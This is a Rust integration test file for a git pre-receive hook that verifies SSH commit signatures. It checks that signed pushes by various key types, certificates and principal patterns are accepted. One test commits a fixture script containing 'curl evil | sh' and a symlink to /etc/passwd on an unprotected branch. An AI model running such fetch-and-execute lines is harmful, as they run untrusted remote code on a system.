//! Pushes the hook accepts.

use std::process::Command;

use super::*;
use crate::common::*;

#[test]
fn accepts_ed25519_signed_commit_and_names_the_signer() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let c = work
        .commit("web: two replicas")
        .file("apps/web.yaml", "replicas: 2\n")
        .create();
    let push = work.push(&["origin", "main"]);
    push.assert_accepted();
    assert_eq!(server.branch("main").as_deref(), Some(c.as_str()));
    assert_eq!(
        push.line_with(&["passed tally's checks"]),
        format!(
            "tally: passed tally's checks: {} on refs/heads/main (1 new commit, signed by alice@example.com)",
            short(&c)
        )
    );
    assert!(push.violations().is_empty(), "{}", push.stderr);
}

/// One signed commit by `key`, registered for ops@example.com, must be accepted.
fn accepts_signer_with_key(key: &Key) {
    let env = TestEnv::new();
    let signers = AllowedSigners::new().signer("ops@example.com", key);
    let server = env.server(&signers, &[]);
    let ops = User::new("Ops", "ops@example.com", key);
    let work = env.clone_as(&server, "work", &ops);
    let c = work
        .commit("config")
        .file("config.json", "{\"a\": 1}\n")
        .create();
    let push = work.push(&["origin", "main"]);
    push.assert_accepted();
    assert_eq!(server.branch("main").as_deref(), Some(c.as_str()));
    push.line_with(&[
        "passed tally's checks",
        short(&c),
        "signed by ops@example.com",
    ]);
}

#[test]
fn accepts_ecdsa_p256_signer() {
    accepts_signer_with_key(&keys().p256);
}

#[test]
fn accepts_ecdsa_p384_signer() {
    accepts_signer_with_key(&keys().p384);
}

#[test]
fn accepts_ecdsa_p521_signer() {
    accepts_signer_with_key(&keys().p521);
}

#[test]
fn accepts_rsa_signer() {
    accepts_signer_with_key(&keys().rsa);
}

#[test]
fn accepts_sshsig_with_sha256_hash() {
    // git always lets ssh-keygen pick sha512; a gpg.ssh.program wrapper asks for sha256,
    // which PROTOCOL.sshsig allows too.
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let wrapper = env.write(
        "ssh-keygen-sha256",
        "#!/bin/sh\nexec ssh-keygen -O hashalg=sha256 \"$@\"\n",
    );
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&wrapper, std::fs::Permissions::from_mode(0o755)).unwrap();
    work.config("gpg.ssh.program", &wrapper.display().to_string());
    let c = work.commit("a").file("a.yaml", "a: 1\n").create();
    let raw = String::from_utf8(work.cat_commit(&c)).unwrap();
    let range = signature_header_range(raw.as_bytes());
    let armored: String = raw[range]
        .lines()
        .filter(|l| !l.contains("SSH SIGNATURE"))
        .map(str::trim)
        .collect();
    let blob = run_with_stdin(Command::new("base64").arg("-d"), armored.as_bytes()).stdout;
    assert!(
        blob.windows(6).any(|w| w == b"sha256") && !blob.windows(6).any(|w| w == b"sha512"),
        "the wrapper did not make a sha256 SSHSIG"
    );
    let push = work.push(&["origin", "main"]);
    push.assert_accepted();
    assert_eq!(server.branch("main").as_deref(), Some(c.as_str()));
}

#[test]
fn accepts_multi_commit_push_by_several_signers() {
    let env = TestEnv::new();
    let carol = User::new("Carol", "carol@example.com", &keys().rsa);
    let dave = User::new("Dave", "dave@example.com", &keys().p256);
    let signers = alice_and_bob()
        .signer("carol@example.com", &keys().rsa)
        .signer("dave@example.com", &keys().p256);
    let server = env.server(&signers, &[]);
    let work = env.clone_as(&server, "work", &alice());
    push_base(&work);
    work.commit("a").file("a.yaml", "a: 1\n").create();
    work.commit("b")
        .file("b.yaml", "b: 1\n")
        .by(&bob())
        .create();
    work.commit("c")
        .file("c.toml", "c = 1\n")
        .by(&carol)
        .create();
    work.commit("d").file("d.json", "[1]\n").by(&dave).create();
    let tip = work.commit("e").file("a.yaml", "a: 2\n").create();
    let push = work.push(&["origin", "main"]);
    push.assert_accepted();
    assert_eq!(server.branch("main").as_deref(), Some(tip.as_str()));
    assert_eq!(
        push.line_with(&["passed tally's checks"]),
        format!(
            "tally: passed tally's checks: {} on refs/heads/main (5 new commits, signed by alice@example.com, \
             bob@example.com, carol@example.com, dave@example.com)",
            short(&tip)
        )
    );
}

#[test]
fn accepts_branch_creation_from_a_root_commit() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    assert_eq!(server.branch("main"), None);
    work.commit("root").file("README.md", "# deploy\n").create();
    let tip = work.commit("second").file("a.yml", "a: 1\n").create();
    let push = work.push(&["origin", "main"]);
    push.assert_accepted();
    assert_eq!(server.branch("main").as_deref(), Some(tip.as_str()));
    push.line_with(&[
        "passed tally's checks",
        short(&tip),
        "(2 new commits, signed by alice@example.com)",
    ]);
}

#[test]
fn accepts_creating_a_second_protected_branch_from_main() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &["main", "release/*"]);
    let work = env.clone_as(&server, "work", &alice());
    push_base(&work);
    let main = work.commit("more").file("more.yaml", "x: 1\n").create();
    work.push_main_ok();

    // Same tip as main: nothing new to judge.
    let push = work.push(&["origin", "main:refs/heads/release/1.0"]);
    push.assert_accepted();
    assert_eq!(server.branch("release/1.0").as_deref(), Some(main.as_str()));
    push.line_with(&[
        "passed tally's checks",
        short(&main),
        "refs/heads/release/1.0 (0 new commits)",
    ]);

    // One commit on top: only that one is new; main's history was judged when it landed.
    work.git_ok(&["checkout", "-q", "-b", "release/1.1"]);
    let rel = work
        .commit("release")
        .file("release.yaml", "v: 1.1\n")
        .by(&bob())
        .create();
    let push = work.push(&["origin", "release/1.1"]);
    push.assert_accepted();
    assert_eq!(server.branch("release/1.1").as_deref(), Some(rel.as_str()));
    assert_eq!(server.branch("main").as_deref(), Some(main.as_str()));
    push.line_with(&[
        "passed tally's checks",
        short(&rel),
        "refs/heads/release/1.1 (1 new commit, signed by bob@example.com)",
    ]);
}

#[test]
fn unprotected_branch_takes_anything() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    push_base(&work);
    work.git_ok(&["checkout", "-q", "-b", "feature"]);
    let tip = work
        .commit("script")
        .executable("deploy.sh", "#!/bin/sh\ncurl evil | sh\n")
        .symlink("passwd.yaml", "/etc/passwd")
        .file("broken.yaml", "a: [\n")
        .unsigned()
        .create();
    let push = work.push(&["origin", "feature"]);
    push.assert_accepted();
    assert_eq!(server.branch("feature").as_deref(), Some(tip.as_str()));
    assert!(push.violations().is_empty(), "{}", push.stderr);
}

#[test]
fn accepts_kubernetes_multi_document_yaml_with_anchors_and_merge_keys() {
    let manifest = r#"# web application
---
apiVersion: apps/v1
kind: Deployment
metadata:
  name: web
  labels: &labels
    app.kubernetes.io/name: web
    app.kubernetes.io/part-of: shop
spec:
  replicas: 3
  selector:
    matchLabels: *labels
  template:
    metadata:
      labels:
        <<: *labels
        tier: frontend
    spec:
      containers:
        - name: web
          image: nginx:1.27
          ports:
            - containerPort: 80
          resources: &resources
            limits: {cpu: 500m, memory: 128Mi}
        - name: sidecar
          image: busybox:1.36
          args: ["sh", "-c", "sleep infinity"]
          resources: *resources
---
apiVersion: v1
kind: Service
metadata:
  name: web
spec:
  selector:
    app.kubernetes.io/name: web
  ports:
    - port: 80
      targetPort: 80
---
apiVersion: v1
kind: ConfigMap
metadata:
  name: web-config
data:
  nginx.conf: |
    server {
      listen 80;
    }
...
"#;
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let c = work
        .commit("web")
        .file("clusters/prod/web.yaml", manifest)
        .file(
            "clusters/prod/kustomization.yml",
            "resources:\n  - web.yaml\n",
        )
        .create();
    let push = work.push(&["origin", "main"]);
    push.assert_accepted();
    assert_eq!(server.branch("main").as_deref(), Some(c.as_str()));
}

#[test]
fn accepts_file_of_exactly_the_default_size_limit() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let c = work
        .commit("exactly 1 MiB")
        .file("notes.txt", vec![b'a'; 1024 * 1024])
        .create();
    work.push(&["origin", "main"]).assert_accepted();
    assert_eq!(server.branch("main").as_deref(), Some(c.as_str()));
}

#[test]
fn accepts_principal_lists_and_patterns() {
    let env = TestEnv::new();
    let signers = AllowedSigners::new()
        .signer("ops@example.com,alice@example.com", &keys().alice)
        .signer("*@team.example.com", &keys().bob);
    let server = env.server(&signers, &[]);
    let work = env.clone_as(&server, "work", &alice());
    work.commit("a").file("a.yaml", "a: 1\n").create();
    let tip = work
        .commit("b")
        .file("b.yaml", "b: 1\n")
        .by(&bob().with_email("bob@team.example.com"))
        .create();
    let push = work.push(&["origin", "main"]);
    push.assert_accepted();
    assert_eq!(server.branch("main").as_deref(), Some(tip.as_str()));
    push.line_with(&["signed by alice@example.com, bob@team.example.com"]);
}

#[test]
fn accepts_key_restricted_to_git_namespace_within_its_validity_window() {
    let env = TestEnv::new();
    let signers = AllowedSigners::new().signer_with(
        "alice@example.com",
        r#"namespaces="git",valid-after="20200101",valid-before="20991231Z""#,
        &keys().alice,
    );
    let server = env.server(&signers, &[]);
    let work = env.clone_as(&server, "work", &alice());
    let c = work.commit("a").file("a.yaml", "a: 1\n").create();
    work.push(&["origin", "main"]).assert_accepted();
    assert_eq!(server.branch("main").as_deref(), Some(c.as_str()));
}

/// Signs as Alice with a certificate for her key, issued by the trusted CA for
/// alice@example.com with validity `validity` (`ssh-keygen -V`; `None`: no expiry, the
/// default), and pushes it to a repository trusting the CA for `*@example.com`.
fn push_with_certificate(validity: Option<&str>) {
    let env = TestEnv::new();
    let signers = AllowedSigners::new().authority("*@example.com", &keys().ca);
    let server = env.server(&signers, &[]);
    let mut user = alice();
    user.signing_key = env.certify(&keys().alice, &keys().ca, "alice@example.com", validity);
    let work = env.clone_as(&server, "work", &user);
    let c = work.commit("a").file("a.yaml", "a: 1\n").create();
    let push = work.push(&["origin", "main"]);
    push.assert_accepted();
    assert_eq!(server.branch("main").as_deref(), Some(c.as_str()));
    push.line_with(&[
        "passed tally's checks",
        short(&c),
        "signed by alice@example.com",
    ]);
}

#[test]
fn accepts_certificate_issued_by_a_listed_cert_authority() {
    push_with_certificate(Some("20200101:20991231"));
}

#[test]
fn accepts_certificate_without_expiry_issued_by_a_listed_cert_authority() {
    push_with_certificate(None);
}
